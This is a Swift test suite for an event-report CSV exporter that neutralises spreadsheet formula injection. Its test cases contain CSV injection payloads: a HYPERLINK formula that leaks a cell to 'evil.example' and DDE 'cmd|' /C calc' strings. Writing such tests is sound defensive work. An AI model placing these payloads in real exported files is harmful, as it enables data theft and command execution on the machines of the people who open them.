import EventModel
import Reports
import Testing

/// CSV for spreadsheets: cells a spreadsheet would run as formulas are neutralised (OWASP).
@Suite struct EventCSVTests {
    @Test(arguments: [
        ("=1+1", #""'=1+1""#),
        (#"=HYPERLINK("http://evil.example/?"&A1,"open")"#, #""'=HYPERLINK(""http://evil.example/?""&A1,""open"")""#),
        ("+cmd|' /C calc'!A0", #""'+cmd|' /C calc'!A0""#),
        ("-2+3+cmd|' /C calc'!A0", #""'-2+3+cmd|' /C calc'!A0""#),
        ("@SUM(1+1)*cmd|' /C calc'!A0", #""'@SUM(1+1)*cmd|' /C calc'!A0""#),
        ("\t=1", "\"'\t=1\""),
        ("\r=1", "\"'\r=1\""),
        ("-", #""'-""#),
        ("-1.", #""'-1.""#),
    ])
    func formulaCellsAreQuotedWithALeadingQuote(cell: String, written: String) {
        #expect(EventCSV().cell(cell) == written)
        #expect(!EventCSV(neutralizesFormulas: false).cell(cell).hasPrefix("\"'"), "raw cells get no quote in front")
    }

    @Test(arguments: ["-1", "+2.5", "-100", "0", "a=b", "/usr/bin/ps", "syscall=SYS_OPENAT fd=-100", ""])
    func otherCellsAreUnchanged(cell: String) {
        #expect(EventCSV().cell(cell) == cell)
    }

    @Test func rawCellsAreOnlyQuotedForSeparators() {
        let raw = EventCSV(neutralizesFormulas: false)
        #expect(raw.cell("=1+1") == "=1+1")
        #expect(raw.cell("=A1,B1") == "\"=A1,B1\"")
    }

    @Test func rowsNeutraliseEveryCell() {
        var event = Event()
        event.processName = "=cmd|' /C calc'!A0"
        event.resource = "@x, y"
        event.hostPID = 42
        let row = EventCSV().row(event, [.field(.processName), .field(.resource), .field(.hostPID)])
        #expect(row == "\"'=cmd|' /C calc'!A0\",\"'@x, y\",42\r\n")
    }
}
